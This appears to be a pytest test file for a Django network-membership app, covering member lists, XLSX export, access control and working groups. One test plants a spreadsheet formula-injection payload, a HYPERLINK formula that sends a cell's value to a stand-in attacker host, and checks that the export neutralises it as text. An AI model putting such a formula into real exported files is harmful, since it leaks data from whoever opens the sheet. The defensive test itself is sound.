import datetime
import io

from django.urls import reverse
from openpyxl import load_workbook

from erasmi.networks.models import Organisation


def test_member_list_answers_who_is_in_and_what_is_missing(client, member, erfurt_network):
    client.force_login(member)
    response = client.get(reverse("networks:members", args=["erfurt"]))
    assert response.status_code == 200
    names = [m["name"] for m in response.context["listing"]["rows"]]
    assert names == ["Afrikanisch-Deutscher Verein", "Caritas", "Stadt Erfurt", "VHS"]  # not the former member
    composition = response.context["listing"]["composition"]
    assert composition["total"] == 4
    assert composition["migrant_share"] == 25
    assert dict(composition["by_sector"]) == {"State": 1, "Non-state": 3}
    assert "Company" in composition["missing"] and "NGO" in composition["missing"]


def test_former_members_on_request_and_filter_by_actor_type(client, member, erfurt_network):
    client.force_login(member)
    url = reverse("networks:members", args=["erfurt"])
    assert len(client.get(url, {"former": "1"}).context["listing"]["rows"]) == 5
    assert client.get(url, {"former": "1"}).context["listing"]["page"].paginator.count == 5
    only = client.get(url, {"type": Organisation.ActorType.AUTHORITY}).context["listing"]["rows"]
    assert [m["name"] for m in only] == ["Stadt Erfurt"]


def test_member_list_exports_to_xlsx_that_reads_back(client, member, erfurt_network):
    client.force_login(member)
    response = client.get(reverse("networks:members_xlsx", args=["erfurt"]), {"former": "1"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Organisation", "Actor type", "Sector")
    assert len(rows) == 6
    former = next(r for r in rows if r[0] == "Former Ltd")
    assert former[1] == "Company"
    assert former[6].date().isoformat() == "2020-06-30"  # a real date cell, not text


def test_members_of_another_network_see_nothing_internal(client, other_member, erfurt_network, other_network):
    client.force_login(other_member)
    for name in ("networks:members", "networks:members_xlsx", "networks:group_create"):
        assert client.get(reverse(name, args=["erfurt"])).status_code == 404, name
    assert client.get(reverse("networks:group", args=["erfurt", "sprache"])).status_code == 404
    page = client.get(reverse("networks:detail", args=["erfurt"]))
    assert page.status_code == 200
    assert "Stadt Erfurt" not in page.text
    assert "Sprache" not in page.text


def test_visitors_see_the_public_profile_only(client, erfurt_network):
    page = client.get(reverse("networks:detail", args=["erfurt"]))
    assert "4 member organisations" in page.text
    assert client.get(reverse("networks:members", args=["erfurt"])).status_code == 302


def test_coordinator_creates_a_working_group(client, coordinator, member, erfurt_network):
    client.force_login(coordinator)
    from erasmi.networks.models import Person

    lead = Person.objects.get(user=member)
    response = client.post(
        reverse("networks:group_create", args=["erfurt"]),
        {"name": "Arbeit und Ausbildung", "topic": "Jobs", "kind": "temporary", "ends": "", "lead": lead.pk},
    )
    assert response.status_code == 200
    assert "A temporary group needs an end date." in response.text
    response = client.post(
        reverse("networks:group_create", args=["erfurt"]),
        {
            "name": "Arbeit und Ausbildung",
            "kind": "temporary",
            "ends": "2027-06-30",
            "lead": lead.pk,
            "members": [lead.pk],
        },
    )
    assert response.status_code == 302
    group = erfurt_network.working_groups.get(slug="arbeit-und-ausbildung")
    assert group.lead == lead
    assert list(group.members.all()) == [lead]


def test_members_cannot_create_working_groups(client, member, erfurt_network):
    client.force_login(member)
    assert client.get(reverse("networks:group_create", args=["erfurt"])).status_code == 404


def test_coordinator_records_the_signed_agreement_with_its_file(client, coordinator, erfurt_network):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from erasmi.networks.models import HistoryEntry, Membership

    membership = Membership.objects.get(organisation__name="Caritas")
    client.force_login(coordinator)
    url = reverse("networks:membership", args=["erfurt", membership.pk])
    response = client.post(url, {"joined": "2010-01-01", "left": "2009-01-01"})
    assert "The member left before joining." in response.text
    client.post(
        url,
        {
            "joined": "2010-01-01",
            "agreement_signed": "2011-02-03",
            "agreement_file": SimpleUploadedFile("vereinbarung.pdf", b"%PDF-1.4 signed"),
        },
    )
    membership.refresh_from_db()
    assert str(membership.agreement_signed) == "2011-02-03"
    assert membership.agreement_document.versions.get().original_name == "vereinbarung.pdf"
    entry = HistoryEntry.objects.filter(action="changed").get()
    assert entry.changes == {"agreement_signed": "2011-02-03", "agreement_file": "vereinbarung.pdf"}
    page = client.get(reverse("networks:members", args=["erfurt"]))
    assert f"/documents/{membership.agreement_document_id}/" in page.text


def test_members_cannot_edit_memberships(client, member, erfurt_network):
    from erasmi.networks.models import Membership

    membership = Membership.objects.get(organisation__name="Caritas")
    client.force_login(member)
    assert client.get(reverse("networks:membership", args=["erfurt", membership.pk])).status_code == 404


def test_member_list_xlsx_writes_formulas_as_text_cells(client, member, erfurt_network):
    formula = '=HYPERLINK("http://evil.example/?"&B2,"Click")'
    caritas = Organisation.objects.get(name="Caritas")
    caritas.name, caritas.city, caritas.website, caritas.email = formula, "+49 Erfurt", "@SUM(1)", "-x@example.org"
    caritas.save()
    Organisation.objects.filter(name="VHS").update(name="VHS\x0b Erfurt")  # a character XLSX cannot hold
    client.force_login(member)
    response = client.get(reverse("networks:members_xlsx", args=["erfurt"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if formula in r[0].value)
    assert [cell.value for cell in (row[0], row[3], row[8], row[9])] == [
        "'" + formula,
        "'+49 Erfurt",
        "'@SUM(1)",
        "'-x@example.org",
    ]
    assert all(cell.data_type == "s" for cell in (row[0], row[3], row[8], row[9]))
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)
    assert "VHS Erfurt" in [r[0].value for r in sheet.iter_rows()]


def test_member_xlsx_is_sorted_as_the_reader_reads(client, member, erfurt_network):
    for name in ("AWO Erfurt", "Äthiopischer Verein", "Çorum Kulturverein", "Cuba Verein"):
        organisation = Organisation.objects.create(name=name)
        erfurt_network.memberships.create(organisation=organisation, joined=datetime.date(2024, 1, 1))
    client.force_login(member)
    sheet = load_workbook(io.BytesIO(client.get(reverse("networks:members_xlsx", args=["erfurt"])).content)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    wanted = ["Afrikanisch-Deutscher Verein", "Äthiopischer Verein", "AWO Erfurt", "Caritas", "Çorum Kulturverein"]
    wanted.append("Cuba Verein")
    assert [name for name in names if name in wanted] == wanted
